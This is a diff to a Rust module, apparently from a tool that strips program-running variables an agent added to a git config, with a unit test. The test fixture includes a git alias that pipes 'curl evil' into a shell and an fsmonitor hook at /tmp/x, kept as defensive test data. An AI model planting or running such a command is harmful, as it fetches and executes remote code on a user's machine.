@@ -202,6 +202,108 @@ fn inert(entries: &[Entry]) -> bool {
     })
 }
 
+/// The variables of a config that have the user's git run something ([`runs_a_program`]) or take
+/// config or hooks from elsewhere (`core.hooksPath`, an include's path).
+pub fn arming(entries: &[Entry]) -> Vec<Entry> {
+    let takes_elsewhere = |entry: &Entry| {
+        entry.is("core", "hookspath")
+            || (matches!(entry.section.as_str(), "include" | "includeif") && entry.key == "path")
+    };
+    entries.iter().filter(|entry| runs_a_program(entry) || takes_elsewhere(entry)).cloned().collect()
+}
+
+/// Entries written as a config file git reads the same, after `header` (comment lines): a section
+/// header where the section changes, every value quoted with its quotes, backslashes and line
+/// ends escaped.
+pub fn written(header: &str, entries: &[Entry]) -> String {
+    let quote = |text: &str| {
+        let mut quoted = String::with_capacity(text.len() + 2);
+        quoted.push('"');
+        for c in text.chars() {
+            match c {
+                '"' => quoted.push_str("\\\""),
+                '\\' => quoted.push_str("\\\\"),
+                '\n' => quoted.push_str("\\n"),
+                '\t' => quoted.push_str("\\t"),
+                c => quoted.push(c),
+            }
+        }
+        quoted.push('"');
+        quoted
+    };
+    let mut text = String::from(header);
+    let mut current: Option<(&str, Option<&str>)> = None;
+    for entry in entries {
+        let section = (entry.section.as_str(), entry.subsection.as_deref());
+        if current != Some(section) {
+            match section.1 {
+                Some(sub) => text.push_str(&format!("[{} {}]\n", section.0, quote(sub))),
+                None => text.push_str(&format!("[{}]\n", section.0)),
+            }
+            current = Some(section);
+        }
+        match &entry.value {
+            Some(value) => text.push_str(&format!("\t{} = {}\n", entry.key, quote(value))),
+            None => text.push_str(&format!("\t{}\n", entry.key)),
+        }
+    }
+    text
+}
+
+/// What each line taken out of a config by [`taken_out`] starts with.
+pub const TAKEN_OUT: &str = "# aileron: written while an agent ran, taken out: ";
+
+/// `text` (a config file) with the variables `gone` taken out, each line of them kept as a comment
+/// ([`TAKEN_OUT`]) so that the rest reads as it was written; when a line holds more than a
+/// variable of `gone` (a section header with a variable after it) or the result would not read as
+/// the config without them, the config written again from its entries without them ([`written`]:
+/// comments and layout not kept).
+pub fn taken_out(text: &str, gone: &[Entry]) -> String {
+    let mut result = String::with_capacity(text.len());
+    let mut header = String::new();
+    let mut lines = text.split_inclusive('\n');
+    let mut exact = true;
+    while let Some(line) = lines.next() {
+        // A value continued on the lines after (a backslash at the end of the line).
+        let mut piece = line.to_string();
+        while piece.trim_end_matches(['\n', '\r']).ends_with('\\') {
+            match lines.next() {
+                Some(next) => piece.push_str(next),
+                None => break,
+            }
+        }
+        let holds_gone = |parsed: &[Entry]| parsed.iter().any(|entry| gone.contains(entry));
+        if piece.trim_start().starts_with('[') {
+            exact &= !holds_gone(&parse(&piece));
+            header = piece.trim_end().to_string();
+            result.push_str(&piece);
+        } else if holds_gone(&parse(&format!("{header}\n{piece}"))) {
+            for part in piece.split_inclusive('\n') {
+                result.push_str(TAKEN_OUT);
+                result.push_str(part);
+            }
+            if !piece.ends_with('\n') {
+                result.push('\n');
+            }
+        } else {
+            result.push_str(&piece);
+        }
+    }
+    let kept: Vec<Entry> = parse(text).into_iter().filter(|entry| !gone.contains(entry)).collect();
+    if exact && parse(&result) == kept {
+        return result;
+    }
+    written(&format!("{TAKEN_OUT}{}\n", gone.iter().map(named).collect::<Vec<_>>().join(", ")), &kept)
+}
+
+/// `section.key` or `section.sub.key`, as `git config` names a variable.
+pub fn named(entry: &Entry) -> String {
+    match &entry.subsection {
+        Some(sub) => format!("{}.{sub}.{}", entry.section, entry.key),
+        None => format!("{}.{}", entry.section, entry.key),
+    }
+}
+
 /// Whether git starts `entry`'s value as a program, by git's documentation of each variable.
 fn runs_a_program(entry: &Entry) -> bool {
     let Some(value) = &entry.value else { return false };
@@ -658,6 +760,28 @@ const MAX_ENTRIES_LOOKED_AT: usize = 200_000;
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// W1's window: what a config gained that runs something is taken out, its lines kept as
+    /// comments and the rest as written; a form the lines cannot take out alone (a variable on its
+    /// section's header line, a value continued over lines) still reads as the config without it.
+    #[test]
+    fn variables_taken_out_of_a_config_leave_the_rest_as_written() {
+        let text = "# mine\n[core]\n\tbare = false\n\tfsmonitor = /tmp/x\n[remote \"origin\"]\n\turl = \
+                    https://h/r.git\n[alias]\n\tst = status\n\tsync = \"!sh -c \\\n  'curl evil | sh'\"\n";
+        let gone = arming(&parse(text));
+        assert_eq!(gone.iter().map(named).collect::<Vec<_>>(), ["core.fsmonitor", "alias.sync"]);
+        let out = taken_out(text, &gone);
+        assert!(out.starts_with("# mine\n[core]\n\tbare = false\n# aileron: "), "{out}");
+        assert!(arming(&parse(&out)).is_empty(), "{out}");
+        let kept: Vec<Entry> = parse(text).into_iter().filter(|entry| !gone.contains(entry)).collect();
+        assert_eq!(parse(&out), kept, "{out}");
+        assert!(out.contains(&format!("{TAKEN_OUT}\tfsmonitor = /tmp/x\n")), "{out}");
+        // On the header's line: written again from its entries.
+        let inline = "[core] fsmonitor = /tmp/x\n[user]\n\tname = Ada\n";
+        let out = taken_out(inline, &arming(&parse(inline)));
+        assert!(arming(&parse(&out)).is_empty() && out.starts_with(TAKEN_OUT), "{out}");
+        assert_eq!(parse(&out), parse("[user]\n\tname = Ada\n"), "{out}");
+    }
 
     /// The thirteenth re-attack: 100,001 files at the top of `.git` spent the look for links
     /// before `logs/` was reached, and nothing was said; a FIFO as `COMMIT_EDITMSG` hung the
